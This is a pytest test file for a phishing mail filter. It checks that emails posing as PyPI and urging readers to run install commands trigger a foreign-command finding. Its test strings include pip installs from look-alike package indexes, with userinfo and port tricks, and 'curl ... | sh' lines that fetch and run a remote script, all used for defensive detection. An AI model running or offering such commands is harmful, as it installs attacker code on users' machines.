"""Commands that load from a foreign place, in every way of writing where."""

from pathlib import Path

import pytest

from phish_milter.detection.checks import SYMBOLS
from phish_milter.message.model import Envelope
from phish_milter.scanning.scanner import Scanner
from phish_milter.settings.load import load_settings

GOLDEN = Path(__file__).parents[2] / "corpus" / "golden.toml"
HEAD = "From: PyPI <office@flowers.example>\r\nSubject: Notice\r\nTo: dev@example.net\r\n"


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(load_settings(GOLDEN, SYMBOLS))


@pytest.mark.parametrize(
    ("command", "fires", "why"),
    [
        ("pip install -i https://packages.shop.example/simple fix", True, "plain"),
        ("pip install -i https://packages.shop.example:8443/simple fix", True, "port"),
        ("pip install -i https://me:s3cret@packages.shop.example/simple fix", True, "userinfo"),
        ("pip install -i https://pypi.org@packages.shop.example:8443/ fix", True, "both"),
        ("pip install -i https://PACKAGES.shop.EXAMPLE./simple fix", True, "case, final dot"),
        ("pip install -i https://b\u00fccher.example/simple fix", True, "letters of any script"),
        ("curl -s https://192.0.2.7:8080/fix.sh | sh", True, "address"),
        ("curl -s https://[2001:db8::7]:8080/fix.sh | sh", True, "address in brackets"),
        ("pip install -i https://pypi.org:443/simple fix", False, "the brand's own"),
        ("pip install -i https://me@pypi.org/simple fix", False, "the brand's own"),
        ("pip install fix", False, "no place named"),
    ],
)
@pytest.mark.parametrize("indent", ["", "    "])
def test_command(command: str, fires: bool, why: str, indent: str, scanner: Scanner) -> None:
    raw = f"{HEAD}Content-Type: text/plain\r\n\r\nRun this now:\r\n\r\n{indent}{command}\r\n"
    found = {f.symbol.name for f in scanner.scan(raw.encode(), Envelope()).findings}

    assert ("FOREIGN_COMMAND" in found) is fires, why
